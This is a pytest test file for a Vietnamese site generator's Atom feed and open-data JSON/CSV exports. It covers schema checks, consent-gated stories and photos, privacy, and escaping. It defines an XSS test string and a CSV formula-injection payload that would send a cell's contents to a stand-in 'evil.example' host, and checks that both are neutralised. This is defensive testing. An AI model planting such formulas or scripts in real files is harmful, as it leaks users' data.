"""The Atom feed and the open data files (generator/site/feed.py, generator/site/opendata.py), and the page documenting them."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import jsonschema
import markdown
import pytest
import yaml

import imaging
from conftest import CONTENT, VALID_INITIATIVE, VALID_PERSON
from generator.site import feed, opendata
from generator.media.images import Rendition, Variant
from generator.records.model import Corpus
from generator.site.order import latest
from generator.site.plan import Page
from generator.site.render import Renderer
from generator.records.validate import validate

A = "{http://www.w3.org/2005/Atom}"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
HOSTILE = "<script>alert(1)</script> & ]]> \"Hạnh\""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def initiative(name: str, date: str) -> str:
    return VALID_INITIATIVE.replace("Đường hoa quân sự", name).replace("2022-12-31", date)


def person(name: str = "Nguyễn Thị Mỹ Hạnh", story_consent: bool = True, photo_consent: bool = False,
           extra: str = "") -> str:
    text = VALID_PERSON.replace("Nguyễn Thị Mỹ Hạnh", name)
    text = text.replace("  story: true\n", f"  story: {'true' if story_consent else 'false'}\n"
                        f"  photo: {'true' if photo_consent else 'false'}\n")
    return text + "birth_year: 1980\nstory: |\n  Câu chuyện **riêng** của chị.\n" + extra


def load(corpus_dir) -> Corpus:
    model, report = validate(corpus_dir.root)
    assert not report.errors, [d.format() for d in report.items]
    return model


@pytest.fixture
def mixed(corpus) -> Corpus:
    """Seven records of every kind and era, with hostile names, a tie on date and a formula."""
    corpus.add("duong-hoa", VALID_INITIATIVE + "organization: Ban CHQS huyện Thanh Liêm\n"
               "results:\n  - label: Đường hoa\n    value: 3\n    unit: km\n"
               "honours:\n  - title: Bằng khen\n    issuer: UBND tỉnh Hà Nam\n    decision: 12/QĐ-UBND\n    date: 2023-01-05\n"
               "sources:\n  - title: Bài báo\n    url: https://baohanam.example/bai\n    publisher: Báo Hà Nam\n")
    corpus.add("hostile", initiative(json.dumps(HOSTILE, ensure_ascii=False), "2024-03-02"))
    corpus.add("formula", initiative(json.dumps(FORMULA, ensure_ascii=False), "2021-05-05"))
    corpus.add("an-binh", initiative("Ấp văn hoá", "2023-06-01"))
    corpus.add("anh-sang", initiative("Ánh sáng đường quê", "2023-06-01"))
    corpus.add("chi-hanh", person(story_consent=False), group="binh-duong/tan-uyen")
    corpus.add("sau-2025", VALID_INITIATIVE.replace("Đường hoa quân sự", "Chợ không tiền mặt")
               .replace("2022-12-31", "2025-08-15").replace("  province: Hà Nam\n  district: Thanh Liêm\n",
                                                             "  province: Ninh Bình\n"), group="ninh-binh")
    return load(corpus)


def feed_root(corpus: Corpus, site_url=None, **kw) -> ET.Element:
    data = feed.atom_feed(corpus, site_url, **kw)
    assert list(data) == ["feed.xml"]
    return ET.fromstring(data["feed.xml"])


def open_json(corpus: Corpus, site_url=None, photos=None) -> dict:
    return json.loads(opendata.open_data(corpus, site_url, photos)["du-lieu/ho-so.json"].decode("utf-8"))


def by_slug(doc: dict) -> dict:
    return {r["slug"]: r for r in doc["records"]}


# --- Atom ---------------------------------------------------------------------------

def test_feed_is_atom(mixed):
    data = feed.atom_feed(mixed, None)["feed.xml"]
    assert data.startswith(b'<?xml version="1.0" encoding="utf-8"?>')
    root = ET.fromstring(data)
    assert root.tag == A + "feed" and root.get(XML_LANG) == "vi"
    assert root.findtext(A + "title") == "Sổ vàng người tốt, việc tốt"
    assert root.findtext(A + "subtitle")
    assert root.findtext(A + "id") == "tag:sovang.invalid,2025:feed"
    assert root.findtext(A + "updated") == "2025-08-15T00:00:00+07:00"  # the newest record, not the clock
    assert root.findtext(A + "generator")
    assert root.find(f"{A}link[@rel='self']") is None  # unknown without the site's address
    entries = root.findall(A + "entry")
    assert len(entries) == len(mixed.records)
    for e in entries:
        for tag in ("id", "title", "updated", "published", "summary"):
            assert e.findtext(A + tag), tag
        assert e.find(f"{A}author/{A}name").text
        assert e.find(f"{A}link[@rel='alternate']").get("href").startswith("ho-so/")
    first = entries[0]
    assert first.findtext(A + "title") == "Chợ không tiền mặt"
    assert first.findtext(A + "updated") == first.findtext(A + "published") == "2025-08-15T00:00:00+07:00"
    assert first.find(f"{A}link[@rel='alternate']").get("href") == "ho-so/sau-2025/"


def test_entry_details(mixed):
    root = feed_root(mixed)
    entry = next(e for e in root.findall(A + "entry") if e.findtext(A + "id").endswith("/duong-hoa"))
    assert entry.findtext(A + "id") == "tag:sovang.invalid,2025:ho-so/duong-hoa"
    assert entry.findtext(A + "summary").startswith("Ba ki-lô-mét đường hoa")
    assert entry.find(f"{A}author/{A}name").text == "Ban CHQS huyện Thanh Liêm"
    [category] = entry.findall(A + "category")
    assert category.get("term") == "quoc-phong" and category.get("label") == mixed.terms["quoc-phong"].name
    other = next(e for e in root.findall(A + "entry") if e.findtext(A + "id").endswith("/an-binh"))
    assert other.find(f"{A}author/{A}name").text == "Sổ vàng người tốt, việc tốt"  # no organization: the site (publisher.by_line)


def test_entries_newest_first_and_capped(mixed):
    entries = feed_root(mixed, limit=4).findall(A + "entry")
    assert len(entries) == 4
    dates = [e.findtext(A + "updated") for e in entries]
    assert dates == sorted(dates, reverse=True)
    assert [e.findtext(A + "title") for e in entries] == [r.name for r in latest(mixed.records, 4)]
    # Two records on the same day: Vietnamese name order, as on the site's lists.
    tied = [e.findtext(A + "title") for e in feed_root(mixed).findall(A + "entry")
            if e.findtext(A + "updated").startswith("2023-06-01")]
    assert tied == [r.name for r in latest([r for r in mixed.records if r.date.isoformat() == "2023-06-01"], 2)]
    assert feed_root(mixed, limit=0).findall(A + "entry") == []


def test_hostile_names_are_text(mixed):
    data = feed.atom_feed(mixed, None)["feed.xml"]
    assert b"<script>" not in data and b"]]>" not in data
    titles = [e.findtext(A + "title") for e in ET.fromstring(data).findall(A + "entry")]
    assert HOSTILE in titles and FORMULA in titles


def test_ids_do_not_depend_on_the_site_url(mixed):
    def ids(site_url):
        return [e.findtext(A + "id") for e in feed_root(mixed, site_url).findall(A + "entry")]

    assert ids(None) == ids("https://sovang.example.gov.vn/") == ids("https://mirror.example.org/sovang")
    root = feed_root(mixed, "https://sovang.example.gov.vn")  # no trailing slash: one is added
    assert root.findtext(A + "id") == "https://sovang.example.gov.vn/"
    assert root.find(f"{A}link[@rel='self']").get("href") == "https://sovang.example.gov.vn/feed.xml"
    hrefs = [e.find(f"{A}link[@rel='alternate']").get("href") for e in root.findall(A + "entry")]
    assert hrefs[0] == "https://sovang.example.gov.vn/ho-so/sau-2025/"
    assert all(h.startswith("https://sovang.example.gov.vn/ho-so/") for h in hrefs)


def test_deterministic(mixed):
    shuffled = Corpus(tuple(reversed(mixed.records)), dict(reversed(list(mixed.terms.items()))))
    for site_url in (None, "https://sovang.example.gov.vn/"):
        assert feed.atom_feed(mixed, site_url) == feed.atom_feed(mixed, site_url) == feed.atom_feed(shuffled, site_url)
        assert opendata.open_data(mixed, site_url) == opendata.open_data(mixed, site_url) == opendata.open_data(shuffled, site_url)


def test_empty_corpus(corpus):
    empty = load(corpus)
    root = feed_root(empty)
    assert root.findall(A + "entry") == [] and root.findtext(A + "updated")
    doc = open_json(empty)
    jsonschema.validate(doc, opendata.OPEN_DATA_SCHEMA)
    assert doc["count"] == 0 and doc["records"] == [] and doc["generated_from"] is None
    text = opendata.open_data(empty, None)["du-lieu/ho-so.csv"].decode("utf-8-sig")
    assert text == ",".join(opendata.CSV_COLUMNS) + "\r\n"


# --- JSON ---------------------------------------------------------------------------

def validator():
    jsonschema.Draft202012Validator.check_schema(opendata.OPEN_DATA_SCHEMA)
    return jsonschema.Draft202012Validator(opendata.OPEN_DATA_SCHEMA, format_checker=jsonschema.FormatChecker())


def test_json_matches_the_schema(mixed):
    for site_url in (None, "https://sovang.example.gov.vn/"):
        validator().validate(open_json(mixed, site_url))


def test_json_of_the_real_content():
    model, report = validate(CONTENT)
    assert not report.errors
    doc = open_json(model, "https://sovang.example.gov.vn/")
    validator().validate(doc)
    assert doc["count"] == len(model.records) > 0


def test_json_document(mixed):
    doc = open_json(mixed)
    assert list(doc) == ["schema", "version", "publisher", "generated_from", "count", "records"]
    assert doc["schema"] == "sovang-open-data/4" and doc["version"] == 4
    assert doc["publisher"] == {"site_name": "Sổ vàng người tốt, việc tốt", "organisation": None, "url": None,
                                "email": None}
    assert doc["generated_from"] == "2025-08-15"
    assert doc["count"] == len(doc["records"]) == len(mixed.records)
    assert [r["slug"] for r in doc["records"]] == sorted(r.slug for r in mixed.records)
    assert open_json(mixed, "https://x.example")["schema"] == "https://x.example/du-lieu/schema-v4"


def test_json_record(mixed):
    records = by_slug(open_json(mixed))
    r = records["duong-hoa"]
    assert list(r) == list(opendata.OPEN_DATA_SCHEMA["properties"]["records"]["items"]["properties"])
    assert r["url"] == "../ho-so/duong-hoa/"  # relative to du-lieu/, where the file is
    assert (r["kind"], r["kind_label"], r["date"], r["era"]) == ("initiative", "Mô hình", "2022-12-31", "truoc-2025")
    assert r["place"]["province"]["name"] == "Tỉnh Hà Nam" and r["place"]["district"]["name"] == "Huyện Thanh Liêm"
    assert r["place"]["commune"] is None and r["place"]["current_province"]["name"] == "Tỉnh Ninh Bình"
    assert r["fields"] == [{"key": "quoc-phong", "name": mixed.terms["quoc-phong"].name}]
    assert r["results"] == [{"label": "Đường hoa", "value": 3, "unit": "km"}]
    assert r["honours"] == [{"title": "Bằng khen", "issuer": "UBND tỉnh Hà Nam", "decision": "12/QĐ-UBND",
                             "date": "2023-01-05"}]
    assert r["sources"] == [{"title": "Bài báo", "url": "https://baohanam.example/bai", "publisher": "Báo Hà Nam",
                             "date": None}]
    assert r["photos"] == [] and r["story"] is None and r["birth_year"] is None
    after = records["sau-2025"]
    assert after["era"] == "tu-2025" and after["place"]["district"] is None
    assert after["place"]["province"] == after["place"]["current_province"]
    assert records["hostile"]["name"] == HOSTILE
    absolute = by_slug(open_json(mixed, "https://sovang.example.gov.vn"))
    assert absolute["duong-hoa"]["url"] == "https://sovang.example.gov.vn/ho-so/duong-hoa/"


def test_story_only_with_consent(corpus):
    corpus.add("khong-dong-y", person(story_consent=False), group="binh-duong/tan-uyen")
    corpus.add("dong-y", person("Trần Văn Bình", story_consent=True), group="binh-duong/tan-uyen")
    model = load(corpus)
    records = by_slug(open_json(model))
    assert records["khong-dong-y"]["story"] is None
    assert records["dong-y"]["story"] == "Câu chuyện **riêng** của chị."
    csv_text = opendata.open_data(model, None)["du-lieu/ho-so.csv"].decode("utf-8-sig")
    assert "Câu chuyện" not in csv_text


def test_person_privacy(corpus):
    corpus.add("chi-hanh", person(), group="binh-duong/tan-uyen")
    model = load(corpus)
    data = opendata.open_data(model, None)
    text = data["du-lieu/ho-so.json"].decode("utf-8")
    r = by_slug(json.loads(text))["chi-hanh"]
    assert r["birth_year"] == 1980 and r["role"] == "Phó Bí thư Thường trực Đảng ủy phường"
    assert [k for k in r if "birth" in k] == ["birth_year"]
    assert "1980-" not in text
    for leak in ("consent", "given_by", "guardian", '"self"', str(corpus.root), "entry.yml", "folder"):
        assert leak not in text, leak
    row = next(csv.DictReader(io.StringIO(data["du-lieu/ho-so.csv"].decode("utf-8-sig"))))
    assert row["birth_year"] == "1980"
    assert [k for k in row if "birth" in k] == ["birth_year"]


# --- Photos -------------------------------------------------------------------------

def renditions(model: Corpus) -> dict[str, tuple]:
    """What images.derive would give, without decoding: one rendition per photo, for every record."""
    out = {}
    for r in model.records:
        out[r.slug] = tuple(
            Rendition(r, p, (Variant(f"ho-so/{r.slug}/anh.abc-360.webp", 360, 270),
                             Variant(f"ho-so/{r.slug}/anh.abc-1600.webp", 1600, 1200)),
                      Variant(f"ho-so/{r.slug}/anh.abc-800.jpg", 800, 600))
            for p in r.photos)
    return out


PHOTO_YAML = "photos:\n  - file: anh.jpg\n    caption: Chú thích\n    credit: Việt Hà\n    alt: Mô tả ảnh\n"


def test_photos_only_published(corpus):
    files = {"anh.jpg": imaging.jpeg((320, 240))}
    corpus.add("duong-hoa", VALID_INITIATIVE + PHOTO_YAML, files=files)
    corpus.add("co-dong-y", person("Trần Văn Bình", photo_consent=True, extra=PHOTO_YAML),
               group="binh-duong/tan-uyen", files=files)
    corpus.add("khong-dong-y", person(photo_consent=False, extra=PHOTO_YAML), group="binh-duong/tan-uyen", files=files)
    model = load(corpus)
    photos = renditions(model)  # a careless caller passes every photo: consent is checked again
    records = by_slug(open_json(model, None, photos))
    validator().validate(open_json(model, "https://sovang.example.gov.vn/", photos))
    assert records["duong-hoa"]["photos"] == [{
        "url": "../ho-so/duong-hoa/anh.abc-1600.webp", "jpeg_url": "../ho-so/duong-hoa/anh.abc-800.jpg",
        "width": 1600, "height": 1200, "caption": "Chú thích", "credit": "Việt Hà", "alt": "Mô tả ảnh"}]
    assert len(records["co-dong-y"]["photos"]) == 1
    assert records["khong-dong-y"]["photos"] == []
    assert all(r["photos"] == [] for r in open_json(model)["records"])  # photos=None: none listed
    text = opendata.open_data(model, None, photos)["du-lieu/ho-so.json"].decode("utf-8")
    assert "anh.jpg" not in text  # never the original file

    root = feed_root(model, "https://sovang.example.gov.vn/", photos=photos)
    enclosures = {e.findtext(A + "id").rsplit("/", 1)[1]: e.find(f"{A}link[@rel='enclosure']")
                  for e in root.findall(A + "entry")}
    assert enclosures["duong-hoa"].get("href") == "https://sovang.example.gov.vn/ho-so/duong-hoa/anh.abc-800.jpg"
    assert enclosures["co-dong-y"] is not None and enclosures["khong-dong-y"] is None


# --- CSV ----------------------------------------------------------------------------

def csv_rows(model: Corpus, site_url=None) -> tuple[bytes, list[dict]]:
    data = opendata.open_data(model, site_url)["du-lieu/ho-so.csv"]
    assert data.startswith(b"\xef\xbb\xbf")  # BOM, for Excel
    reader = csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline=""))
    assert tuple(reader.fieldnames) == opendata.CSV_COLUMNS
    return data, list(reader)


def test_csv(mixed):
    data, rows = csv_rows(mixed)
    assert len(rows) == len(mixed.records) == json.loads(opendata.open_data(mixed, None)["du-lieu/ho-so.json"])["count"]
    assert data.count(b"\r\n") == len(rows) + 1 and b"\n" not in data.replace(b"\r\n", b"")
    row = {r["slug"]: r for r in rows}
    assert [r["slug"] for r in rows] == sorted(row)
    d = row["duong-hoa"]
    assert (d["url"], d["kind"], d["date"], d["era"]) == ("../ho-so/duong-hoa/", "initiative", "2022-12-31", "truoc-2025")
    assert (d["province"], d["district"], d["commune"], d["current_province"]) == (
        "Tỉnh Hà Nam", "Huyện Thanh Liêm", "", "Tỉnh Ninh Bình")
    assert d["province_code"] and d["district_code"] and d["commune_code"] == ""
    assert d["fields"] == "quoc-phong" and d["organization"] == "Ban CHQS huyện Thanh Liêm" and d["birth_year"] == ""
    assert row["sau-2025"]["era"] == "tu-2025" and row["sau-2025"]["district"] == ""
    assert row["hostile"]["name"] == HOSTILE  # quoting keeps commas, quotes and markup intact
    assert row["chi-hanh"]["fields"] == "xay-dung-dang"


def test_csv_formula_injection(mixed):
    _, rows = csv_rows(mixed)
    name = next(r["name"] for r in rows if r["slug"] == "formula")
    assert name == "'" + FORMULA


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Hà Nam", "Hà Nam"), ("a=b", "a=b"), (None, ""), (1980, "1980"), ("", ""),
])
def test_csv_cell(value, expected):
    assert opendata.csv_cell(value) == expected


def test_fields_joined_with_semicolons(corpus):
    corpus.add("hai-linh-vuc", VALID_INITIATIVE.replace("[quoc-phong]", "[quoc-phong, moi-truong]"))
    _, [row] = csv_rows(load(corpus))
    assert row["fields"] == "quoc-phong;moi-truong"


# --- The page -----------------------------------------------------------------------

def front_matter(text: str) -> dict:
    _, head, _ = text.split("---\n", 2)
    return yaml.safe_load(head)


def test_open_data_page_renders(mixed):
    outputs = opendata.open_data(mixed, None)
    page = opendata.open_data_page(mixed, outputs)
    assert page.path == "du-lieu/index.md" and page.template == "open_data.md.j2"
    assert [f["name"] for f in page.context["files"]] == ["ho-so.json", "ho-so.csv"]
    text = Renderer().render(page)
    assert text.startswith("---\ntitle: \"Dữ liệu mở\"\n")
    assert front_matter(text)["title"] == "Dữ liệu mở"
    html = markdown.markdown(text.split("---\n", 2)[2], extensions=["tables"])
    assert '<a href="ho-so.json">ho-so.json</a>' in html and '<a href="ho-so.csv">ho-so.csv</a>' in html
    assert '<a href="../feed.xml">feed.xml</a>' in html
    # The page and the feed give the same credit line, naming the site.
    assert feed.LICENCE.format(site="Sổ vàng người tốt, việc tốt") in text
    assert feed.LICENCE.format(site="X") == "Dữ liệu được công bố để mọi người cùng sử dụng; khi dùng lại, hãy ghi nguồn X."
    assert "15/08/2025" in html and f"{len(mixed.records)} hồ sơ" in html
    # Every JSON field of a record, and every CSV column, is documented.
    for key in opendata.OPEN_DATA_SCHEMA["properties"]["records"]["items"]["properties"]:
        assert f"`{key}`" in text or f"`place.{key}`" in text, key
    for key in opendata.OPEN_DATA_SCHEMA["properties"]:
        assert f"`{key}`" in text, key
    for column in opendata.CSV_COLUMNS:
        assert f"`{column}`" in text, column


def test_open_data_page_with_the_plain_context():
    import datetime as dt

    versions = {"version": 4, "schema_path": "du-lieu/schema-v4", "schema_name": "sovang-open-data/4"}
    page = Page("du-lieu/index.md", "open_data.md.j2", {
        **versions, "count": 3450, "generated_from": dt.date(2025, 8, 15),
        "files": [{"name": "ho-so.json", "size_kb": 2.5}, {"name": "ho-so.csv", "size_kb": 1}]})
    text = Renderer().render(page)
    html = markdown.markdown(text.split("---\n", 2)[2], extensions=["tables"])
    assert "3.450 hồ sơ" in html and "2,5 KB" in html and "15/08/2025" in html
    assert "feed.xml" not in text  # the feed is linked only when the caller says it exists
    empty = Renderer().render(Page("du-lieu/index.md", "open_data.md.j2",
                                   {**versions, "count": 0, "generated_from": None, "files": []}))
    assert front_matter(empty)["title"] == "Dữ liệu mở"
